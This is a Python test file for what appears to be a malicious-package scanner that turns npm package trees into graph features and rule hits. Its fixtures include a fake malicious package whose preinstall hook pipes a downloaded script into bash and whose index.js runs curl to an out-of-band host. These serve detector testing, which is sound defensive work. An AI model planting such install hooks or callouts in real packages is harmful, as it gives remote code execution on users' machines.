"""From a package tree to feature rows, install hooks, merging, files."""

from __future__ import annotations

import json

import pytest
from pyspark.sql import functions as F

from paxlens.functions import reports, scripts
from paxlens.operators import callgraph, jsparse, merge
from paxlens.plans.packages import analysed_tree
from paxlens.rules.dsl import load_rules, rules_frame, shipped
from paxlens.schemas import GRAPH_FEATURES
from paxlens.sources import graphs, packages


@pytest.fixture
def tree(tmp_path):
    def put(path: str, text: str | bytes):
        p = tmp_path / "pk gs" / path
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(text if isinstance(text, bytes) else text.encode())

    put("malicious/evil/index.js", "require('child_process').exec('curl http://x.oast.fun')")
    put("malicious/evil/package.json", '{"scripts": {"preinstall": "curl -s https://a.b/x.sh | bash && node i.js"}}')
    put("benign/good/lib/a.mjs", "export const f = x => x + 1")
    put("benign/good/package.json", '{"scripts": {"test": "jest"}}')
    put("benign/broken/package.json", "{nope")
    put("benign/broken/x.js", "a b c")
    put("benign/empty/README.md", "hello")
    put("benign/bytes/a.js", b"f('\xff\xfeok')")
    return str(tmp_path / "pk gs")


def test_tree_to_features(spark, tree):
    a = analysed_tree(spark, tree)
    rows = {r.package_id: r for r in a.features.collect()}
    assert set(rows) == {"evil", "good", "broken", "empty", "bytes"}
    assert a.features.columns[:5] == ["package_id", "data_type", "label", "hit_rules_count", "hit_rules"] and a.features.columns[-27:] == list(GRAPH_FEATURES) and len(a.features.columns) == 92
    assert rows["evil"].label == 1 and rows["evil"].hit_rules == "DT-004,DT-008,PE-001,PE-002,PE-004,SP-002" and rows["evil"]["rule_PE-004"] == 1
    assert rows["good"].label == 0 and rows["good"].malicious_node_count == 0 and rows["broken"].hit_rules == ""
    bad = a.failures.collect()
    assert [(r.package_id, r.rel_path, r.error_type) for r in bad] == [("broken", "x.js", "ast_error")] and "expected" in bad[0].error_message
    assert {r.content for r in a.nodes.where("package_id = 'bytes' and type = 'ARGUMENT'").collect()} == {"ok"}


def test_fixed_graph_features(spark):
    code = [("p", "unknown", "i.js", 10, "require('child_process').exec('curl http://x.oast.fun')")]
    files = spark.createDataFrame(code, "package_id string, data_type string, rel_path string, size long, code string")
    from paxlens.plans.packages import analysed

    r = analysed(files, files.select("package_id", "data_type"), virtual=False).features.first()
    want = {
        "malicious_node_count": 4, "malicious_ratio": 4 / 7, "category_diversity": 2, "DT_ratio": 0.25, "PE_ratio": 0.75, "malicious_internal_edges": 1, "malicious_density": 1 / 12, "malicious_components": 3,
        "mean_degree_centrality_full": 0.25, "max_degree_centrality_full": 0.5, "mean_malicious_pagerank": 0.157332, "max_malicious_pagerank": 0.200635, "sum_malicious_pagerank": 0.629330,
        "mean_malicious_betweenness": 0.05, "max_malicious_betweenness": 0.2, "mean_degree_centrality_sub": 1 / 6, "max_degree_centrality_sub": 1 / 3, "mean_pagerank_sub": 0.25, "max_pagerank_sub": 0.381431, "mean_betweenness_sub": 0, "max_betweenness_sub": 0,
    }
    assert {k: pytest.approx(v, abs=2e-6) for k, v in want.items()} == {k: r[k] for k in want}


@pytest.mark.parametrize(
    ("command", "want"),
    [
        ("curl -s https://a.b/x.sh | bash", "spawn('curl', ['-s', 'https://a.b/x.sh', '|', 'bash']);"),
        ("echo 'a", 'spawn(\'echo\', ["\'a"]);'),
        ('b"', "spawn('b\"', []);"),
        ("node", "spawn('node', []);"),
        ("  ", None),
    ],
)
def test_spawn_call(command, want):
    assert scripts.spawn_call(command) == want


def test_virtual_files(spark):
    files = spark.createDataFrame(
        [
            ("h1", "package/package.json", '{"scripts": {"postinstall": "b && ", "preinstall": "a x&&c", "install": "  "}}'), ("h1", "z/package.json", "{}"), ("h3", "package.json", '{"scripts": {"test": "t"}}'), ("h3", "a.js", ""),
            ("h4", "package.json", "{"), ("h4", "a.js", ""), ("h5", "readme", ""), ("h6", "package.json", "[1]"), ("h7", "node_modules/m/package.json", "{}"), ("h7", "node_modules/m/a.js", ""),
        ],
        "package_id string, rel_path string, code string",
    )
    all_ = files.select("package_id").distinct().withColumn("data_type", F.lit("unknown"))
    got = {r.package_id: r for r in scripts.virtual_files(files, all_).collect()}
    assert set(got) == {"h1", "h3", "h5", "h6", "h7"}
    assert got["h1"].kind == "behavior" and [x for x in got["h1"].code.split("\n") if x.startswith("spawn")] == ["spawn('a', ['x']);", "spawn('c', []);", "spawn('b', []);"] and "// Install command 3\n" in got["h1"].code
    assert got["h3"].code == scripts.PLACEHOLDER and got["h5"].code == scripts.EMPTY_PLACEHOLDER == got["h7"].code
    s = reports.preprocessing_summary(scripts.preprocessing_results(files, all_)).where("package_type is null").first()
    assert (s.packages, s.behavior_virtual, s.placeholder_virtual) == (6, 1, 4)


def document(*nodes, edges=()):
    return json.dumps({"nodes": [{"id": f"n{i}", "type": t, "label": t.lower(), **x} for i, (t, x) in enumerate(nodes)], "edges": [{"source": a, "target": b, "type": t} for a, b, t in edges]})


def test_files_with_one_name_merge(spark, tmp_path):
    for path, text in {
        "p/lib/index.js.pdcg.json": document(("FILE", {}), ("CALL", {"callee_name": "a"}), edges=[("n0", "n1", "calls")]),
        "p/src/index.js.pdcg.json": document(("FILE", {}), ("ARGUMENT", {"content": "dns", "arg_index": 0}), edges=[("n0", "n1", "nested_in"), ("n0", "n9", "calls")]),
        "p/bad.pdcg.json": '{"nodes": [',
    }.items():
        (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / path).write_text(text)
    nodes, edges, failures = graphs.graph_files(spark, str(tmp_path), classified=False)
    assert [(r.package_id, r.rel_path) for r in failures.collect()] == [("p", "bad")]
    n, e = merge.merged(nodes, edges)
    got = {r.node_id: r for r in n.collect()}
    assert set(got) == {"index.js_n0", "index.js_n1"} and (got["index.js_n1"].type, got["index.js_n1"].content, got["index.js_n1"].callee_name) == ("ARGUMENT", "dns", "a")
    assert [(r.src, r.dst, r.type) for r in e.collect()] == [("index.js_n0", "index.js_n1", "nested_in")]
    n, e = merge.merged(nodes.withColumn("file_key", F.col("rel_path")), edges.withColumn("file_key", F.col("rel_path")))
    assert n.count() == 4 and e.count() == 2


def test_tree_files_round_trip(spark, tmp_path):
    (tmp_path / "t" / "p").mkdir(parents=True)
    tree = jsparse.parse("f(1)")
    (tmp_path / "t/p/a.js.ast.json").write_text(json.dumps({"success": True, "parser": "babel", "ast": tree, "error": None}))
    (tmp_path / "t/p/b.js.ast.json").write_text(json.dumps({"success": False, "parser": "babel", "ast": None, "error": "boom"}))
    (tmp_path / "t/p/c.js.ast.json").write_text("{")
    g = {r.rel_path: r for r in callgraph.graphs(graphs.ast_files(spark, str(tmp_path / "t"), classified=False)).collect()}
    assert len(g["a.js"].nodes) == 3 and "boom" in g["b.js"].error and "not JSON" in g["c.js"].error


def test_large_and_odd_sources(spark):
    files = spark.createDataFrame([("p", "d", "a.js", 11 * 1024 * 1024, None), ("p", "d", "b.js", 5, "'\\ud800'"), ("p", "d", "c.js", 0, None)], "package_id string, data_type string, rel_path string, size long, code string")
    got = {r.rel_path: r for r in jsparse.parse_files(files).collect()}
    assert got["a.js"].error == jsparse.TOO_LARGE and got["b.js"].success and got["c.js"].success


def test_slow_files_are_given_up(spark):
    def slow(code):
        while code == "slow":
            pass
        return {"program": {"body": []}}

    files = spark.createDataFrame([("p", "d", f"{i}.js", 4, c) for i, c in enumerate(("slow", "fast", "slow"))], "package_id string, data_type string, rel_path string, size long, code string").coalesce(1)
    got = {r.rel_path: (r.success, r.error) for r in jsparse.parse_files(files, slow, seconds=0.5).collect()}
    assert got == {"0.js": (False, "parsing took more than 0.5 s"), "1.js": (True, None), "2.js": (False, "parsing took more than 0.5 s")}


def test_scans(spark, tree, tmp_path):
    assert packages.packages(spark, tree).count() == 5 and packages.packages(spark, tree + "/benign", classified=False).where("data_type = 'unknown'").count() == 4
    files = packages.source_files(spark, tree)
    p = {r.data_type: (r.packages, r.scripts) for r in packages.preview(files).collect()}
    assert p == {"malicious": (1, 1), "benign": (3, 3)}
    assert [r.rel_path for r in packages.targets(files, "benign", limit=2).collect()] == ["package.json", "x.js"]
    rules = tmp_path / "rules.json"
    rules.write_text(json.dumps({"metadata": {}, "rules": [{"rule_id": "A", "category": "X", "pdcg_pattern": {"node_type": "CALL", "callee_name": "f"}}]}))
    assert [r.code for r in load_rules(spark, str(rules))] == ["SP"] and rules_frame(spark, shipped()).count() == 60


def test_csv(spark, tmp_path):
    rows = spark.createDataFrame([("p", 1)], "package_id string, x int")
    reports.to_csv(rows, str(tmp_path / "o"))
    assert spark.read.option("header", True).csv(str(tmp_path / "o")).columns == ["package_name", "x"]
    with pytest.raises(ValueError, match="no feature rows"):
        reports.to_csv(rows.limit(0), str(tmp_path / "o2"))


def test_sample_code_is_cut_at_every_character(spark, tmp_path):
    """Also within a separator, and with repeated rows of a table."""
    from paxlens import catalog

    head = "// === t000.js ===\n"
    rows = [(n, t, "user", "x" * (n - len(head)) if t == 0 else "y") for n in range(3995, 4004) for t in (0, 1)] + [(1, 0, "user", "twice")] * 2
    spark.createDataFrame(rows, "conv_id long, turn long, role string, text string").write.parquet(f"file://{tmp_path}/conversations.parquet")
    got = {int(r.package_id): r.code for r in catalog.QUERIES["sample_code"](spark, f"file://{tmp_path}").collect()}
    assert got == {n: f"{head}{'x' * (n - len(head))}\n\n// === t001.js ===\ny"[:4000] for n in range(3995, 4004)} | {1: f"{head}twice\n\n{head}twice"}


def tree_query(spark, tmp_path, name):
    """A query on trees of suppliers with large keys: its rows and those of its SQL."""
    import duckdb

    from paxlens import catalog

    keys = [0, 3, 666, 755, 777, 1000, 1666, 4440, 4441, 4446, 5002, 10_000, 45_755, 59_997, 65_535, 65_536, 10_000_777]
    spark.createDataFrame([(k,) for k in keys], "s_suppkey long").write.parquet(f"file://{tmp_path}/supplier.parquet")
    duck = duckdb.connect()
    duck.execute(f"create view supplier as select * from '{tmp_path}/supplier.parquet/*.parquet'")
    want = duck.execute(catalog.ORACLE_SQL[name])
    columns = [d[0] for d in want.description]
    got = catalog.QUERIES[name](spark, f"file://{tmp_path}").select(*columns)
    return sorted(map(str, map(tuple, got.collect()))), sorted(map(str, want.fetchall()))


def test_feature_csv_of_large_keys(spark, tmp_path):
    got, want = tree_query(spark, tmp_path, "tree_features_csv")
    assert got == want and len(got) == 17


def test_ports_are_hits(spark):
    """A bare number that may be a port is one, at any place that a rule sees; a word that ends in it isn't."""
    from paxlens.plans.packages import analysed

    code = [("p", "unknown", "i.js", 10, "f('dns', 4441)"), ("q", "unknown", "i.js", 10, "f('dns', 'k4441')"), ("r", "unknown", "i.js", 10, "f('dns', '65535')"), ("s", "unknown", "i.js", 10, "f('dns', 65536)")]
    files = spark.createDataFrame(code, "package_id string, data_type string, rel_path string, size long, code string")
    rows = analysed(files, files.select("package_id", "data_type"), virtual=False).features.collect()
    assert {r.package_id: r.hit_rules for r in rows} == {"p": "DT-014,IG-002", "q": "IG-002", "r": "DT-014,IG-002", "s": "IG-002"}


def test_package_reports_of_large_keys(spark, tmp_path):
    got, want = tree_query(spark, tmp_path, "tree_package_reports")
    assert got == want and len(got) > 17


def test_package_reports_of_odd_keys(spark, tmp_path):
    """Negative, repeated and null keys, and no supplier at all."""
    import duckdb

    from paxlens import catalog

    for case, keys in {"odd": [*range(-21, 9), -666, 3, 4, 4, 777, 777, None, None], "none": []}.items():
        root = tmp_path / case
        spark.createDataFrame([(k,) for k in keys], "s_suppkey long").write.parquet(f"file://{root}/supplier.parquet")
        duck = duckdb.connect()
        duck.execute(f"create view supplier as select * from '{root}/supplier.parquet/*.parquet'")
        want = duck.execute(catalog.ORACLE_SQL["tree_package_reports"]).fetchall()
        got = catalog.QUERIES["tree_package_reports"](spark, f"file://{root}").collect()
        assert sorted(map(str, map(tuple, got))) == sorted(map(str, want)) and len(want) >= len(keys)
